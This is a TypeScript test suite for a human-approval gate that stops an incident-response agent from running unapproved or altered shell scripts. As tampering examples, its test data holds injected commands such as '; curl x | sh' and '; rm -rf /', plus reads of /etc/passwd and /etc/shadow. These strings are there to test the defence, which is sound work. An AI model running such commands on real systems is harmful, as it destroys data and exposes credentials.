import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { type Policy, PolicySchema } from '../../src/approvals/policy.ts';
import {
  createProposal,
  decideProposal,
  expireProposals,
  finishRun,
  getProposal,
  getRun,
  type Proposal,
  sameProposal,
  startRun,
} from '../../src/approvals/service.ts';
import { type CodedError, ErrorCode } from '../../src/errors.ts';
import type { Db } from '../../src/store/db.ts';
import { openIncidentStore, testDatabases } from '../helpers/db.ts';

/**
 * The approval gate over a real store: the service's rules, and the database's own refusal of a
 * run that lacks the approvals of its exact hash, on PGlite and on PostgreSQL.
 */
const policy = (over: object = {}): Policy =>
  PolicySchema.parse({ approvers: { users: ['U0A', 'U0B'] }, ...over });
const t0 = new Date('2026-12-02T01:00:00Z');
const later = (minutes: number) => new Date(t0.getTime() + minutes * 60_000);

for (const database of testDatabases()) {
  describe(`the approval gate on ${database.name}`, () => {
    let db: Db;
    let incidentId: number;
    before(async () => {
      ({
        db,
        incident: { id: incidentId },
      } = await openIncidentStore(database, { note: '', user: 'U0A' }));
    });
    after(() => db.close());

    const propose = (text: string, p: Policy = policy(), by = 'agent') =>
      createProposal(
        db,
        { incidentId, kind: 'script', target: 'evidence', text, why: 'test', proposedBy: by },
        p,
        t0,
      );
    const approve = (p: Proposal, user: string, at = later(1), sha256 = p.sha256) =>
      decideProposal(db, {
        proposalId: p.id,
        decision: 'approved',
        user,
        via: 'button',
        sha256,
        isApprover: user === 'U0A' || user === 'U0B',
        now: at,
      });

    it('runs an approved proposal once, and records every step in the audit log', async () => {
      const p = await propose('grep -c icy- strings.txt');
      assert.equal((await approve(p, 'U0A')).kind, 'recorded');
      const run = await startRun(db, p.id, p, later(2));
      assert.ok(run);
      assert.equal(await startRun(db, p.id, p, later(2)), undefined, 'a second start is not a second run');
      await finishRun(db, p, run.id, { ok: true, exitCode: 0, outputBytes: 12 });
      assert.equal((await getProposal(db, p.id))!.state, 'done');
      const { rows } = await db.executeSql<{ action: string; actor: string }>(
        `SELECT action, actor FROM audit_log WHERE subject->>'proposal' = $1 ORDER BY id`,
        [String(p.id)],
      );
      assert.deepEqual(
        rows.map((r) => `${r.actor} ${r.action}`),
        [
          'agent proposal.created',
          'U0A proposal.approved',
          'nightshift run.started',
          'nightshift run.finished',
        ],
      );
    });

    it('refuses a run of a text other than the approved one', async () => {
      const p = await propose('ls evidence/');
      await approve(p, 'U0A');
      await assert.rejects(
        startRun(db, p.id, { ...p, text: 'ls evidence/; curl x | sh' }, later(2)),
        (error: CodedError) =>
          error.code === ErrorCode.NotApproved && /not the approved one/.test(error.message),
      );
      assert.equal(await getRun(db, p.id), undefined);
      // A proposal that is not there is not found, which is not the same as not approved.
      await assert.rejects(
        startRun(db, 987654, p, later(2)),
        (error: CodedError) => error.code === ErrorCode.NotFound,
      );
    });

    it('has the database refuse a run row without an approval of the same hash', async () => {
      const p = await propose('cat /etc/passwd');
      await assert.rejects(
        db.executeSql('INSERT INTO runs (proposal_id, sha256) VALUES ($1, $2)', [p.id, p.sha256]),
        /run refused: proposal \d+ has 0 of 1 approvals/,
      );
      // Nor can its state be forced to approved behind the service's back.
      await assert.rejects(
        db.executeSql(`UPDATE proposals SET state = 'approved' WHERE id = $1`, [p.id]),
        /cannot be approved: 0 of 1 approvals/,
      );
      await assert.rejects(
        db.executeSql('INSERT INTO runs (proposal_id, sha256) VALUES ($1, $2)', [p.id, p.sha256]),
        /0 of 1 approvals/,
      );
      await assert.rejects(
        db.executeSql(`UPDATE proposals SET text = 'cat /etc/shadow' WHERE id = $1`, [p.id]),
        /an edit is a new proposal/,
      );
      await assert.rejects(db.executeSql('DELETE FROM approvals'), /append-only/);
    });

    it('needs two people when the policy says so, and not the one who asked', async () => {
      const p = await propose(
        'du -sh /var/lib/docker',
        policy({ approvalsRequired: 2, selfApproval: false }),
        'U0A',
      );
      const self = await approve(p, 'U0A');
      assert.equal(self.kind === 'refused' && self.reason, 'self_approval');
      const first = await approve(p, 'U0B');
      assert.equal(first.kind === 'recorded' && first.proposal.state, 'pending');
      await assert.rejects(startRun(db, p.id, p, later(2)), /is pending, not approved/);
      const outsider = await approve(p, 'U0Z');
      assert.equal(outsider.kind === 'refused' && outsider.reason, 'not_approver');
    });

    it('expires unapproved proposals and refuses approvals after that', async () => {
      const p = await propose('uptime');
      const expired = await expireProposals(db, later(31));
      assert.ok(expired.some((e) => e.id === p.id));
      const late = await approve(p, 'U0A', later(32));
      assert.equal(late.kind === 'refused' && late.reason, 'closed');
      const q = await propose('uptime -p');
      const lateQ = await approve(q, 'U0A', later(30));
      assert.equal(lateQ.kind === 'refused' && lateQ.reason, 'expired');
      assert.equal((await getProposal(db, q.id))!.state, 'expired');
    });

    it('expires an approval whose run did not start in time, and takes a rejection until it starts', async () => {
      const p = await propose('df -h');
      await approve(p, 'U0A', later(1));
      assert.equal(await startRun(db, p.id, p, later(32)), undefined, 'approved at 1 min, not started by 31');
      assert.equal((await getProposal(db, p.id))!.state, 'expired');
      const q = await propose('df -i');
      await approve(q, 'U0A', later(1));
      const changed = await decideProposal(db, {
        proposalId: q.id,
        decision: 'rejected',
        user: 'U0B',
        via: 'button',
        sha256: q.sha256,
        isApprover: true,
        now: later(2),
      });
      assert.equal(changed.kind === 'recorded' && changed.proposal.state, 'rejected');
      await assert.rejects(startRun(db, q.id, q, later(3)), /is rejected, not approved/);
    });

    it('finds a live proposal of the same text, so a retried job proposes nothing twice', async () => {
      const p = await propose('uname -a');
      assert.equal((await sameProposal(db, incidentId, p))?.id, p.id);
      assert.equal(await sameProposal(db, incidentId, { ...p, text: 'uname -r' }), undefined);
      await decideProposal(db, {
        proposalId: p.id,
        decision: 'rejected',
        user: 'U0A',
        via: 'button',
        sha256: p.sha256,
        isApprover: true,
        now: later(1),
      });
      assert.equal(await sameProposal(db, incidentId, p), undefined, 'a rejected one may be proposed again');
    });

    it('approves automatic pulls by policy, and records that approval', async () => {
      const p = await createProposal(
        db,
        {
          incidentId,
          kind: 'pull',
          target: 'web-1',
          text: 'a1b2:/app/core.1',
          why: 'cores',
          proposedBy: 'nightshift',
        },
        policy({ automatic: ['pull'] }),
        t0,
      );
      assert.equal(p.state, 'approved');
      assert.ok(await startRun(db, p.id, p, t0));
      const scripts = await propose('id', policy({ automatic: ['pull'] }));
      assert.equal(scripts.state, 'pending', 'only pulls can be automatic');
    });

    it('never runs without a matching approval, and never twice, whatever the order of events', async () => {
      type Step =
        | { op: 'approve' | 'reject'; user: 'U0A' | 'U0B' | 'U0Z' | 'U0ASKER'; stale: boolean }
        | { op: 'expire'; minutes: number }
        | { op: 'edit' }
        | { op: 'run'; times: number; tampered: boolean }
        | { op: 'crash' };
      // Weighted so that approvals, and so runs, are common: the property must reach runs to prove anything.
      const decision = (op: 'approve' | 'reject') =>
        fc.record({
          op: fc.constant(op),
          user: fc.constantFrom('U0A' as const, 'U0B' as const, 'U0Z' as const, 'U0ASKER' as const),
          stale: fc.integer({ min: 0, max: 5 }).map((n) => n === 0),
        });
      const step: fc.Arbitrary<Step> = fc.oneof(
        { arbitrary: decision('approve'), weight: 6 },
        { arbitrary: decision('reject'), weight: 1 },
        {
          arbitrary: fc.record({
            op: fc.constant('expire' as const),
            minutes: fc.integer({ min: 0, max: 40 }),
          }),
          weight: 1,
        },
        { arbitrary: fc.record({ op: fc.constant('edit' as const) }), weight: 1 },
        {
          arbitrary: fc.record({
            op: fc.constant('run' as const),
            times: fc.integer({ min: 1, max: 3 }),
            tampered: fc.boolean(),
          }),
          weight: 3,
        },
        { arbitrary: fc.record({ op: fc.constant('crash' as const) }), weight: 1 },
      );
      let ran = 0;
      await fc.assert(
        fc.asyncProperty(
          fc.array(step, { minLength: 1, maxLength: 12 }),
          fc.integer({ min: 1, max: 2 }),
          fc.boolean(),
          async (steps, approvalsRequired, selfApproval) => {
            const p0 = policy({
              approvers: { users: ['U0A', 'U0B', 'U0ASKER'] },
              approvalsRequired,
              selfApproval,
            });
            let current = await propose(`echo ${Math.random()}`, p0, 'U0ASKER');
            const made = [current];
            let clock = 1;
            for (const s of steps) {
              if (s.op === 'approve' || s.op === 'reject') {
                await decideProposal(db, {
                  proposalId: current.id,
                  decision: s.op === 'approve' ? 'approved' : 'rejected',
                  user: s.user,
                  via: 'reaction',
                  sha256: s.stale ? made[0]!.sha256.replace(/^./, 'x') : current.sha256,
                  isApprover: s.user !== 'U0Z',
                  now: later(clock++),
                });
              } else if (s.op === 'expire') {
                clock += s.minutes;
                await expireProposals(db, later(clock));
              } else if (s.op === 'edit') {
                current = await propose(`${current.text} --edited`, p0, 'U0ASKER');
                made.push(current);
              } else if (s.op === 'run' || s.op === 'crash') {
                const target = current;
                const about =
                  s.op === 'run' && s.tampered ? { ...target, text: `${target.text}; rm -rf /` } : target;
                const attempts = await Promise.allSettled(
                  Array.from({ length: s.op === 'run' ? s.times : 1 }, () =>
                    startRun(db, target.id, about, later(clock)),
                  ),
                );
                for (const a of attempts) {
                  if (a.status === 'fulfilled' && a.value) ran++;
                  // A crash leaves the run started and never finished; otherwise it finishes.
                  if (a.status === 'fulfilled' && a.value && s.op === 'run')
                    await finishRun(db, target, a.value.id, { ok: true, exitCode: 0 });
                }
              }
            }
            for (const p of made) {
              const { rows: runs } = await db.executeSql<{ sha256: string }>(
                'SELECT sha256 FROM runs WHERE proposal_id = $1',
                [p.id],
              );
              assert.ok(runs.length <= 1, 'never two runs');
              if (runs.length === 0) continue;
              assert.equal(runs[0]!.sha256, p.sha256);
              const { rows: approvals } = await db.executeSql<{ decided_by: string; decision: string }>(
                'SELECT decided_by, decision FROM approvals WHERE proposal_id = $1 AND sha256 = $2',
                [p.id, p.sha256],
              );
              const approvers = new Set(
                approvals
                  .filter((a) => a.decision === 'approved' && (selfApproval || a.decided_by !== 'U0ASKER'))
                  .map((a) => a.decided_by),
              );
              assert.ok(
                approvers.size >= approvalsRequired,
                `run with ${approvers.size} of ${approvalsRequired}`,
              );
              assert.ok(!approvals.some((a) => a.decision === 'rejected'), 'a rejected proposal ran');
              assert.ok(!approvers.has('U0Z'), 'an outsider approved');
            }
          },
        ),
        { numRuns: 40 },
      );
      assert.ok(ran > 0, 'the property never reached a run: it would prove nothing');
    });
  });
}
